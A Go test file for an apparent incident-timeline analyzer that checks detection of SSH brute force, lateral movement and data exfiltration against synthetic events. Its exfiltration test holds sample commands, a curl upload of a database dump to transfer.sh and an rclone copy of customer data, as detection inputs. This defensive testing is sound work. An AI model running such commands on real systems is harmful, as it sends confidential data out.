package timeline

import (
	"context"
	"net/netip"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/mamori-dev/mamori/internal/logevent"
	"github.com/mamori-dev/mamori/internal/logs"
)

// readLog reads a testdata log as host's, with the file dated so that the
// year-less syslog times fall in November 2026.
func readLog(t *testing.T, host, name string) []Event {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "scenario", name))
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(p, b, 0o600); err != nil {
		t.Fatal(err)
	}
	mt := time.Date(2026, 11, 21, 0, 0, 0, 0, time.UTC)
	if err := os.Chtimes(p, mt, mt); err != nil {
		t.Fatal(err)
	}
	var out []Event
	_, err = logs.ReadFile(context.Background(), p, func(e *logevent.Event) error {
		out = append(out, FromLog(host, e))
		return nil
	}, func(err error) { t.Errorf("reading %s: %v", name, err) })
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

// The reviewer's scenario: A is brute-forced over SSH from outside, B is
// then reached from A, and B's customer files are zipped and sent out.
func TestAnalyzeScenario(t *testing.T) {
	t.Parallel()
	var evs []Event
	evs = append(evs, readLog(t, "h-a", "hostA-auth.log")...)
	evs = append(evs, readLog(t, "h-b", "hostB-auth.log")...)
	evs = append(evs,
		Event{Time: at("2026-11-20T03:26:00Z"), Host: "h-a", Source: SourceCollector, Kind: "file",
			Fields: map[string]string{"path": "/tmp/.x/agent", "action": "created", "size": "812344"}},
		Event{Time: at("2026-11-20T03:41:00Z"), Host: "h-b", Source: SourceCollector, Kind: "file",
			Fields: map[string]string{"path": "/srv/share/customers/2025.csv", "action": "accessed"}},
		Event{Time: at("2026-11-20T03:44:00Z"), Host: "h-b", Source: SourceCollector, Kind: "archive",
			Fields: map[string]string{"path": "/tmp/c.zip", "count": "3", "members": "customers/2024.csv\ncustomers/2025.csv\ncustomers/vip.csv\n"}},
		Event{Time: at("2026-11-20T03:47:00Z"), Host: "h-b", Source: SourceCollector, Kind: "connection",
			Fields: map[string]string{"remote_ip": "10.20.0.11", "remote_port": "22", "bytes_out": "99999999"}}, // to host A: not out of the fleet
		Event{Time: at("2026-11-20T03:48:00Z"), Host: "h-b", Source: SourceCollector, Kind: "connection",
			Fields: map[string]string{"remote_ip": "198.51.100.9", "remote_port": "443", "bytes_out": "48000000"}},
	)
	for i := range evs {
		evs[i].ID = int64(i + 1)
	}
	hosts := []Host{
		{ID: "h-a", Name: "web-01", Addrs: []netip.Addr{netip.MustParseAddr("10.20.0.11")}},
		{ID: "h-b", Name: "db-02", Addrs: []netip.Addr{netip.MustParseAddr("10.20.0.12")}},
	}
	got := Analyze(evs, hosts)
	want := []Finding{
		{Kind: EntryVector, Rule: "brute_force_then_success", Confidence: 0.9, Host: "h-a", Account: "deploy",
			First: at("2026-11-20T03:10:00Z"), Last: at("2026-11-20T03:19:30Z"), Overall: true,
			Events: []int64{1, 2, 3, 4, 5, 6, 7, 8, 9}},
		{Kind: LateralMovement, Rule: "remote_logon", Confidence: 0.8, From: "h-a", To: "h-b", Host: "h-b", Account: "deploy",
			First: at("2026-11-20T03:40:12Z"), Last: at("2026-11-20T03:40:12Z"), Events: []int64{11}},
		{Kind: Exfiltration, Rule: "archive_then_upload", Confidence: 0.8, Host: "h-b",
			First: at("2026-11-20T03:44:00Z"), Last: at("2026-11-20T03:48:00Z"), Events: []int64{15, 17},
			Files: []string{"/tmp/c.zip", "/tmp/c.zip!customers/2024.csv", "/tmp/c.zip!customers/2025.csv", "/tmp/c.zip!customers/vip.csv", "/srv/share/customers/2025.csv"}},
	}
	if diff := cmp.Diff(got, want, cmpopts.IgnoreFields(Finding{}, "Reason")); diff != "" {
		t.Errorf("findings (-got +want):\n%s", diff)
	}
	for _, f := range got {
		if f.Reason == "" {
			t.Errorf("%s/%s has no reason", f.Kind, f.Rule)
		}
	}
}

func TestEntryRules(t *testing.T) {
	t.Parallel()
	t0 := at("2026-01-01T00:00:00Z")
	tests := []struct {
		name string
		ev   Event
		rule string
	}{
		{"office spawns shell", Event{Kind: "process", Fields: map[string]string{"parent_image": `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "image": `C:\Windows\System32\cmd.exe`}}, "office_spawns_shell"},
		{"download folder", Event{Kind: "process", Fields: map[string]string{"image": `C:\Users\bob\Downloads\invoice.exe`}}, "download_execution"},
		{"web shell file", Event{Kind: "file", Fields: map[string]string{"path": "/var/www/html/uploads/x.php"}}, "web_shell"},
		{"web server spawns shell", Event{Kind: "process", Fields: map[string]string{"parent_image": "/usr/sbin/apache2", "image": "/bin/sh"}}, "web_shell"},
		{"exploit rule", Event{Kind: "sigma", Rule: "Exploitation attempt", Fields: map[string]string{"tags": "attack.initial_access,attack.t1190"}}, "exploit_rule"},
		{"ordinary process", Event{Kind: "process", Fields: map[string]string{"image": "/usr/bin/ls"}}, ""},
		{"ordinary file", Event{Kind: "file", Fields: map[string]string{"path": "/var/www/html/index.html"}}, ""},
	}
	for _, tt := range tests {
		tt.ev.Time, tt.ev.Host, tt.ev.ID = t0, "h-1", 7
		got := Analyze([]Event{tt.ev}, nil)
		rule := ""
		if len(got) == 1 {
			rule = got[0].Rule
		}
		if rule != tt.rule || len(got) > 1 {
			t.Errorf("%s: findings %+v, want rule %q", tt.name, got, tt.rule)
		}
	}
}

func TestLateralWindowsAndExfilRules(t *testing.T) {
	t.Parallel()
	hosts := []Host{
		{ID: "h-a", Addrs: []netip.Addr{netip.MustParseAddr("10.0.0.1")}},
		{ID: "h-b", Addrs: []netip.Addr{netip.MustParseAddr("10.0.0.2")}},
	}
	t0 := at("2026-01-01T00:00:00Z")
	evs := []Event{
		{ID: 1, Time: t0, Host: "h-b", Kind: "logon", Fields: map[string]string{"source_ip": "10.0.0.1", "logon_type": "3", "user": "CORP\\adm"}},
		{ID: 2, Time: t0.Add(time.Minute), Host: "h-b", Kind: "service_installed", Fields: map[string]string{"service": "PSEXESVC"}},
		{ID: 3, Time: t0.Add(2 * time.Minute), Host: "h-b", Kind: "share_access", Fields: map[string]string{"share": `\\*\ADMIN$`, "source_ip": "10.0.0.1", "user": "adm"}},
		{ID: 4, Time: t0.Add(3 * time.Minute), Host: "h-b", Kind: "logon", Fields: map[string]string{"source_ip": "10.0.0.1", "logon_type": "2"}}, // interactive: not remote
		{ID: 5, Time: t0.Add(4 * time.Minute), Host: "h-b", Kind: "command", Fields: map[string]string{"command": "rclone copy /data/customers remote:bucket"}},
		{ID: 6, Time: t0.Add(5 * time.Minute), Host: "h-b", Kind: "command", Fields: map[string]string{"command": "curl -T /tmp/dump.sql https://transfer.sh/dump.sql"}},
		{ID: 7, Time: t0.Add(6 * time.Minute), Host: "h-b", Kind: "mount", Fields: map[string]string{"removable": "true", "device": "sdb"}},
		{ID: 8, Time: t0.Add(7 * time.Minute), Host: "h-b", Kind: "archive", Fields: map[string]string{"path": "/tmp/a.zip", "members": "x/1.csv\n"}},
		{ID: 9, Time: t0.Add(8 * time.Minute), Host: "h-b", Kind: "file_deleted", Fields: map[string]string{"path": "/home/u/x/1.csv"}},
		{ID: 10, Time: t0.Add(9 * time.Minute), Host: "h-b", Kind: "connection", Fields: map[string]string{"remote_ip": "52.1.2.3", "domain": "my-bucket.s3.amazonaws.com"}},
	}
	type row struct {
		Kind, Rule, From, To, Account string
		Files                         []string
	}
	var got []row
	for _, f := range Analyze(evs, hosts) {
		got = append(got, row{f.Kind, f.Rule, f.From, f.To, f.Account, f.Files})
	}
	want := []row{
		{LateralMovement, "remote_logon", "h-a", "h-b", `CORP\adm`, nil},
		{LateralMovement, "remote_service", "h-a", "h-b", `CORP\adm`, nil},
		{LateralMovement, "admin_share", "h-a", "h-b", "adm", nil},
		{Exfiltration, "transfer_tool", "", "", "", []string{"/data/customers"}},
		{Exfiltration, "transfer_tool", "", "", "", []string{"/tmp/dump.sql"}},
		{Exfiltration, "removable_media", "", "", "", nil},
		{Exfiltration, "deleted_after_archive", "", "", "", []string{"/home/u/x/1.csv"}},
		{Exfiltration, "cloud_upload", "", "", "", nil},
	}
	if diff := cmp.Diff(got, want); diff != "" {
		t.Errorf("findings (-got +want):\n%s", diff)
	}
}
